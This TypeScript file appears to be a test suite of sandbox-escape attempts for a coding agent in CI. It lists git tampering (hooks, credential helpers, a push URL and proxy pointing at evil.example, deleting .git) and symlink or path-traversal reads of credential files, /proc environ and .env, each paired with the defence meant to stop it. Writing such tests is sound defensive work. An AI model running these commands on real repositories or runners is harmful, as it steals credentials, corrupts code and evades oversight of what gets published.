import { type Attack, attacksOf } from "./attack.ts";

/** The checkout's git and the file tools. */
export const checkout: readonly Attack[] = [
  ...attacksOf("git", { defence: "a generated .git over the checkout's own" }, [
    {
      name: "a hook for later git commands",
      command: "printf '#!/bin/sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
      bare: "hits",
    },
    {
      name: "a hook for the push",
      command: "printf '#!/bin/sh\\n' > $REPO/.git/hooks/pre-push; chmod +x $REPO/.git/hooks/pre-push",
      bare: "hits",
    },
    { name: "another directory of hooks", command: "git config core.hooksPath /tmp/evil", bare: "hits" },
    { name: "a file system monitor", command: "git config core.fsmonitor /tmp/evil", bare: "hits" },
    {
      name: "another host for the push",
      command:
        "git config url.https://evil.example/.insteadOf https://github.com/; git config remote.origin.pushurl https://evil.example/",
      bare: "hits",
    },
    {
      name: "a proxy for the push",
      command: "git config http.proxy http://evil.example; git config http.sslVerify false",
      bare: "hits",
    },
    {
      name: "a helper that gets the credential",
      command: "git config credential.helper '!evil'; git config core.askPass /tmp/evil",
      bare: "hits",
    },
    {
      name: "programs that git starts",
      command:
        "for k in core.sshCommand core.editor core.pager diff.external gpg.program core.gitProxy; do git config $k /tmp/evil; done",
      bare: "hits",
    },
    {
      name: "a filter for every file",
      command: "git config filter.evil.clean /tmp/evil; echo '* filter=evil' > .git/info/attributes",
      bare: "hits",
    },
    {
      name: "an alias over a command",
      command: "git config alias.status '!evil'; git config include.path /tmp/evil",
      bare: "hits",
    },
    {
      name: "the checkout's history",
      command: "git commit -q --allow-empty -m evil; git branch evil; git tag evil",
      bare: "hits",
    },
    {
      name: "the checkout's branch",
      command: "git checkout -q -b elsewhere; git update-ref refs/heads/other HEAD",
      bare: "hits",
    },
    {
      name: "the checkout's index",
      command: "git rm -q --cached app.py; git update-index --refresh",
      bare: "hits",
    },
    {
      name: "the checkout's objects",
      command:
        "chmod -R u+w .git/objects; rm -rf $(git rev-parse --git-path objects)/??/; chmod -R u+w /run/git-objects; rm -rf /run/git-objects/*; true",
      bare: "hits",
      defence: "read-only mounts",
    },
    {
      name: "a borrowed store of objects",
      command:
        "echo /tmp/evil >> .git/objects/info/alternates; echo /tmp/evil >> $REPO/.git/objects/info/alternates",
      bare: "hits",
    },
    {
      name: "a grafted history",
      command:
        "echo evil > .git/info/grafts; echo evil > .git/shallow; git replace HEAD HEAD 2>/dev/null; true",
      bare: "hits",
    },
    { name: "removing the git directory", command: "rm -rf .git; true", bare: "hits" },
    {
      name: "moving the git directory away",
      command: "mv .git /tmp/moved-$MARK && mv /tmp/moved-$MARK evil-git; true",
      bare: "hits",
    },
    {
      name: "a link in the git directory's place",
      command: "mv .git evil-git && ln -s /tmp .git; rm -rf evil-git; true",
      bare: "hits",
    },
    {
      name: "a submodule's git directory",
      command: "mkdir -p .git/modules/evil/hooks; echo evil > .git/modules/evil/config",
      bare: "hits",
    },
    {
      name: "a work tree elsewhere",
      command:
        "git worktree add -q /tmp/tree-$MARK HEAD; git config core.worktree /tmp; rm -rf /tmp/tree-$MARK",
      bare: "hits",
    },
    {
      name: "a push and a pull request of its own",
      // In a repository that no other attack has spoilt.
      command:
        "rm -rf /tmp/own; git init -q /tmp/own; cd /tmp/own; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m a; git push https://evil.example/x HEAD; gh pr create --fill; true",
      pass: /git push is not available in here.*gh is not available in here/s,
      bare: "not run",
      defence: "stubs that say who publishes",
    },
    {
      name: "maintenance in the background",
      command: "git config maintenance.auto true; git config gc.auto 1; git gc -q --prune=now; true",
      bare: "hits",
    },
    {
      name: "an abandoned lock",
      command: "touch .git/index.lock .git/HEAD.lock .git/config.lock",
      bare: "hits",
    },
  ]).map((attack) => ({ ...attack, next: "rm -rf evil-git; true" })),
  ...attacksOf("file tools", { defence: "a file worker inside the same walls" }, [
    {
      name: "reading another process's environment by a link",
      command: "ln -sfn /proc/$SIBLING/environ link",
      read: ["link"],
      bare: "hits",
    },
    {
      name: "reading a credential by a link",
      command: "ln -sfn $TEMP/git-credentials-1.config link",
      read: ["link"],
      bare: "hits",
    },
    {
      name: "reading a credential by a link in the way",
      command: "ln -sfn $TEMP out",
      read: ["out/git-credentials-1.config"],
      bare: "hits",
    },
    {
      name: "reading a credential by a chain of links",
      command: "ln -sfn $JOB one; ln -sfn one/home two; ln -sfn two/.netrc three",
      read: ["three"],
      bare: "hits",
    },
    {
      name: "reading by dots",
      command: "true",
      read: ["../_temp/git-credentials-1.config", "./../home/.netrc", "a/../../home/.netrc"],
      bare: "hits",
    },
    {
      name: "reading a hidden file",
      command: "true",
      read: [".env", "gha-creds-1.json", "conf/key.json"],
      bare: "hits",
      defence: "hidden files",
    },
    {
      name: "reading a hidden file by a link",
      command: "ln -sfn .env link",
      read: ["link"],
      bare: "hits",
      defence: "hidden files",
    },
    {
      name: "reading a descriptor of the worker's parent",
      command: "ln -sfn /proc/$SIBLING/fd all",
      read: ["all/3", "all/4", "all/5", "all/6"],
      bare: "hits",
    },
    {
      name: "writing to a command file by a link",
      command: "ln -sfn $TEMP/_runner_file_commands/set_env_1 link",
      write: ["link"],
      bare: "hits",
    },
    {
      name: "writing to a command file by a link in the way",
      command: "ln -sfn $TEMP/_runner_file_commands out",
      write: ["out/set_env_1"],
      bare: "hits",
    },
    {
      name: "writing to the checkout's settings",
      command: "true",
      write: [".git/config", ".git/hooks/pre-push"],
      bare: "hits",
    },
    {
      name: "writing by dots",
      command: "true",
      write: ["../home/.bashrc", "../_actions/octo/setup/v1/index.js"],
      bare: "hits",
    },
    {
      name: "changing the workspace in a command that is marked read-only",
      command: "echo evil > made; touch .git/made; ls made .git/made && echo HIT; true",
      readOnly: true,
      bare: "hits",
      defence: "a read-only workspace for read-only commands",
    },
    {
      name: "making a file in a later step's way",
      command: "ln -sfn $TEMP/made link",
      write: ["link"],
      bare: "hits",
    },
  ]).map((attack) => ({ ...attack, next: "rm -f link out one two three all made; true" })),
];
